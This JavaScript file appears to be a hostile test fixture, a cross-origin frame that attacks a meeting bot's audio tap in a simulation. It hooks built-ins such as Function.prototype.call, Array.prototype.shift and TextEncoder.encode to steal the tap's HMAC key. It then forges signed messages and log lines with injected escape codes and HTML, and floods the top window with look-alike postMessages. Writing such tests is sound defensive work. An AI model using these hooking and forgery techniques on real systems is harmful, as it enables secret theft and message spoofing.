// The hostile page's cross-origin frame (hostile.js "frames"). The bot's audio tap runs here
// too and, unable to reach the top document, posts what it sends to the top window, signed.
// This frame goes for that: it hooks every built-in the tap's signing might call (to read the
// key, the event names, or what gets signed), makes the tap log a line of the page's choosing
// and sign content the page chose, and posts look-alikes to the top window at a high rate.
// What it caught is reported as tap_secret_caught; what it sent, in hostile_frame_counts.
(function () {
  'use strict';
  const apply = Reflect.apply;
  const realDispatch = EventTarget.prototype.dispatchEvent;
  const realPostMessage = window.postMessage;
  const realThen = Promise.prototype.then;
  const realShift = Array.prototype.shift;
  const realEncode = TextEncoder.prototype.encode;
  const dataOf = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
  const subtle = window.crypto && window.crypto.subtle;
  const ESC = '\x1b';
  const FORGED_LOG = 'FORGED-LOG-LINE ' + ESC + '[31m<b>owned</b>' + ESC + '[0m';
  const page = new URLSearchParams(location.search).get('page') || '';
  const counts = {};
  const count = (key, n) => { counts[key] = (counts[key] || 0) + (n === undefined ? 1 : n); };
  const reported = new Set();

  function report(type, data) {
    fetch('/__sim/events', {
      method: 'POST', keepalive: true, headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ page_id: page, type, data: data || {} }),
    }).catch(() => {});
  }
  function once(type, data) {
    const key = type + JSON.stringify(data || {});
    if (!reported.has(key)) { reported.add(key); report(type, data); }
  }

  // What the tap's messages look like: prefix + frame|seq|type|mac|detail.
  let prefix = '';
  let frameId = '';
  let lastSeq = 0;
  let stolenKey = null;
  const toTop = (data) => apply(realPostMessage, window.top, [data, '*']);

  function caught(how, what) {
    once('tap_secret_caught', { how, name: String(what).slice(0, 80), world: 'frame' });
  }

  function learn(message) {
    const colon = message.indexOf(':');
    const parts = message.slice(colon + 1).split('|');
    if (colon < 0 || parts.length < 5) return;
    prefix = message.slice(0, colon + 1);
    frameId = parts[0];
    lastSeq = Math.max(lastSeq, Number(parts[1]) || 0);
  }

  async function signAndPost(type, detail) {
    if (!stolenKey || !frameId) return;
    const head = frameId + '|' + (lastSeq + 1000 + (counts.signed_forgeries || 0)) + '|' + type;
    const mac = new Uint8Array(await subtle.sign('HMAC', stolenKey, new TextEncoder().encode(head + '|' + detail)));
    toTop(prefix + head + '|' + Array.from(mac, (b) => (b + 256).toString(16).slice(1)).join('') + '|' + detail);
    count('signed_forgeries');
  }

  function inspect(thisArg, args) {
    for (let i = 0; i < args.length; i++) {
      const a = args[i];
      if (a instanceof Uint8Array && a.length === 32 && thisArg === subtle) {
        caught('the signing key passed through a hooked built-in', 'key bytes');
        subtle.importKey('raw', a, { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']).then((k) => { stolenKey = k; });
      } else if (typeof a === 'string' && a.startsWith('mb-') && a.indexOf('|') > 0) {
        caught('a posted message passed through a hooked built-in', a.slice(0, 40));
        learn(a);
      } else if (a instanceof Event && typeof a.type === 'string' && a.type.startsWith('mb-')) {
        caught('an event passed through a hooked built-in', a.type);
      }
    }
  }

  // Hooks on what the tap's signing could call.
  Function.prototype.call = function (thisArg, ...args) {
    inspect(thisArg, args);
    return apply(this, thisArg, args);
  };
  Function.prototype.apply = function (thisArg, args) {
    if (args) inspect(thisArg, args);
    return apply(this, thisArg, args || []);
  };
  let inside = false;
  Object.defineProperty(Promise.prototype, 'constructor', {
    configurable: true,
    get() {
      if (!inside) {
        inside = true;
        try {
          apply(realThen, this, [(value) => {
            if (window.CryptoKey && value instanceof CryptoKey && value.algorithm.name === 'HMAC') {
              caught('a promise the tap awaited', 'CryptoKey HMAC');
              stolenKey = stolenKey || value;
            }
          }, () => {}]);
        } finally {
          inside = false;
        }
      }
      return Promise;
    },
  });
  // The tap's queue of messages to sign: swap what comes out of it.
  Array.prototype.shift = function () {
    const item = apply(realShift, this, []);
    if (Array.isArray(item) && item.length === 2 && typeof item[1] === 'string' && /^(info|warning|error|i16):/.test(item[1])) {
      count('queue_items_swapped');
      return [item[0], 'error:' + FORGED_LOG];
    }
    return item;
  };
  // What gets signed: sign the page's text in place of the tap's, then post it with that
  // signature once the top window relays the tap's message back.
  const substituted = new Map();
  TextEncoder.prototype.encode = function (text) {
    if (typeof text === 'string') {
      const parts = text.split('|');
      if (parts.length >= 4 && /^[0-9]+$/.test(parts[1]) && /^(info|warning|error|i16):/.test(parts[3])) {
        const forged = parts.slice(0, 3).join('|') + '|error:' + FORGED_LOG;
        substituted.set(parts[1], forged);
        count('signed_texts_swapped');
        return apply(realEncode, this, [forged]);
      }
    }
    return apply(realEncode, this, [text]);
  };

  // The top window relays the tap's messages (it sees them; this frame does not).
  window.addEventListener('message', (e) => {
    const data = apply(dataOf, e, []);
    if (e.source !== window.top || !data || typeof data.relay !== 'string') return;
    stopBait();
    learn(data.relay);
    const parts = data.relay.slice(prefix.length).split('|');
    const forged = substituted.get(parts[1]);
    if (forged) toTop(prefix + parts.slice(0, 3).join('|') + '|' + parts[3] + '|' + forged.split('|').slice(3).join('|'));
    signAndPost(parts[2], 'error:' + FORGED_LOG).catch(() => {});
    // Look-alikes from this frame, once: a flood, oversized, unsigned.
    if (counts.frame_lookalikes) return;
    for (let i = 0; i < 300; i++) toTop(data.relay);
    toTop(prefix + 'x|' + 'y'.repeat(1 << 20));
    toTop(prefix + 'unsigned');
    count('frame_lookalikes', 302);
  });

  // A moment of (silent) audio: the tap in this frame taps it and, unable to reach the top
  // document, posts signed messages to the top window, where the page reads them. It stops as
  // soon as the top window has one (two frames sending audio at once is not this test).
  let stopBait = () => {};
  function makeTheTapPost() {
    const ctx = new AudioContext();
    const stream = ctx.createMediaStreamDestination().stream;
    const audio = document.createElement('audio');
    audio.muted = true;
    audio.srcObject = stream;
    document.body.appendChild(audio);
    audio.play().catch(() => {});
    stopBait = () => { stream.getTracks().forEach((t) => t.stop()); ctx.close().catch(() => {}); stopBait = () => {}; };
    setTimeout(() => stopBait(), 3000);
    count('tap_post_baits');
  }

  toTop({ hostileFrame: 'ready' });
  makeTheTapPost();

  const found = [];
  for (const name of ['qt', 'QWebChannel', 'webChannelTransport', 'meetingBuddyBot']) {
    if (name in window && window[name] !== undefined) found.push(name);
  }
  once('channel_probe', { world: 'frame', found });
  setInterval(() => report('hostile_frame_counts', { ...counts }), 2000);
})();
